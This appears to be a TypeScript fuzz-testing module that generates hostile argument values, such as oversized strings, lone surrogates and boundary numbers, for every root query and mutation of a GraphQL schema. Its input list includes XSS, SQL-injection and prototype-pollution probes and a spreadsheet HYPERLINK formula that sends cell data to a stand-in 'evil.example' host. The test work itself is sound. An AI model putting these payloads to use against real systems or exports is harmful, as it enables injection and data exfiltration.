import fc from 'fast-check';
import {
  getNamedType,
  isEnumType,
  isInputObjectType,
  isListType,
  isNonNullType,
  isScalarType,
  isLeafType,
  type GraphQLField,
  type GraphQLInputType,
  type GraphQLSchema,
} from 'graphql';

// What an attacker sends to every argument (issue 23): NULs however spelled, lone surrogates, huge
// texts, names every object inherits, numbers and dates at and past every bound.

/** Refused at the edge whatever the field: the checks every string goes through. */
const EDGE_TEXT = ['\u0000', 'x\u0000y', 'x\udfffy', '\ud800', 'x'.repeat(300_000)];

/** Reach a field's own rules: names every object inherits, bounds, formulas, scripts, plausible values. */
const FIELD_TEXT = [
  '',
  ' ',
  'constructor',
  '__proto__',
  'toString',
  'hasOwnProperty',
  'x'.repeat(1_001),
  'x'.repeat(60_000),
  '0000-01-01',
  '9999-12-31T23:59:59Z',
  '2026-03-01',
  '2026-02-30',
  '-1',
  '0',
  '2147483648',
  '99999999999999999999',
  'javascript:alert(1)',
  'https://x.example/{tracking_number}',
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  "' OR '1'='1",
  '%_\\',
  '<script>alert(1)</script>',
  'a@b.co',
  'ready',
  'Seller',
  'N000001',
  '😀',
  // A pair across the lengths a field keeps: a cut through it leaves ill-formed text.
  ...[19, 39, 49, 59, 79, 99, 127, 199, 254, 499].map((n) => `${'x'.repeat(n)}😀`),
];

const HOSTILE_NUMBERS = [0, -1, 1, 2_147_483_647, -2_147_483_648, 21474836.47, 1e12, -0.01];

const text = fc.oneof(
  { weight: 1, arbitrary: fc.constantFrom(...EDGE_TEXT) },
  { weight: 6, arbitrary: fc.constantFrom(...FIELD_TEXT) },
  { weight: 2, arbitrary: fc.string({ maxLength: 20, unit: 'binary' }) },
);
const id = fc.oneof(
  {
    weight: 3,
    arbitrary: fc.constantFrom(
      '1',
      '2',
      '3',
      '12',
      '100',
      '0',
      '-1',
      'abc',
      '2147483648',
      '__proto__',
    ),
  },
  { weight: 1, arbitrary: text },
);

/** Values of a GraphQL input type, hostile ones first. */
export function inputValues(
  type: GraphQLInputType,
  depth = 0,
  required = false,
): fc.Arbitrary<unknown> {
  if (isNonNullType(type)) return inputValues(type.ofType, depth, true);
  // A required argument always gets a value: GraphQL's own refusal of a null teaches nothing.
  const nullable = (arbitrary: fc.Arbitrary<unknown>) =>
    required
      ? arbitrary
      : fc.oneof({ weight: 1, arbitrary: fc.constant(null) }, { weight: 4, arbitrary });
  if (isListType(type)) {
    return nullable(fc.array(inputValues(type.ofType, depth + 1), { maxLength: 3 }));
  }
  if (isEnumType(type)) return nullable(fc.constantFrom(...type.getValues().map((v) => v.value)));
  if (isScalarType(type)) {
    switch (type.name) {
      case 'Int':
        return nullable(
          fc.oneof(fc.constantFrom(...HOSTILE_NUMBERS.filter(Number.isInteger)), fc.integer()),
        );
      case 'Float':
        return nullable(
          fc.oneof(
            fc.constantFrom(...HOSTILE_NUMBERS, 1e308, -1e308),
            fc.double({ noNaN: true, noDefaultInfinity: true }),
          ),
        );
      case 'Boolean':
        return nullable(fc.boolean());
      case 'ID':
        return nullable(id);
      default:
        return nullable(text);
    }
  }
  if (isInputObjectType(type)) {
    if (depth > 3) return nullable(fc.constant({}));
    const fields = Object.values(type.getFields());
    return nullable(
      fc.record(Object.fromEntries(fields.map((f) => [f.name, inputValues(f.type, depth + 1)])), {
        requiredKeys: fields.filter((f) => isNonNullType(f.type)).map((f) => f.name),
      }),
    );
  }
  return fc.constant(null);
}

export interface FuzzCall {
  query: string;
  variables: Record<string, unknown>;
}

/** One call of a root field with every argument as a variable, selecting only __typename. */
export function callsOf(
  kind: 'query' | 'mutation',
  field: GraphQLField<unknown, unknown>,
): fc.Arbitrary<FuzzCall> {
  const params = field.args.map((a) => `$${a.name}: ${a.type.toString()}`).join(', ');
  const args = field.args.map((a) => `${a.name}: $${a.name}`).join(', ');
  const selection = isLeafType(getNamedType(field.type)) ? '' : ' { __typename }';
  const query = `${kind}${params ? `(${params})` : ''} { ${field.name}${args ? `(${args})` : ''}${selection} }`;
  return fc
    .record(Object.fromEntries(field.args.map((a) => [a.name, inputValues(a.type)])))
    .map((variables) => ({ query, variables }));
}

/** Every root field of the schema but those named, as calls. */
export function rootCalls(schema: GraphQLSchema, skip: ReadonlySet<string>) {
  const roots = [
    ['query', schema.getQueryType()],
    ['mutation', schema.getMutationType()],
  ] as const;
  return roots.flatMap(([kind, type]) =>
    Object.values(type?.getFields() ?? {})
      .filter((field) => !skip.has(field.name))
      .map((field) => ({ name: field.name, calls: callsOf(kind, field) })),
  );
}
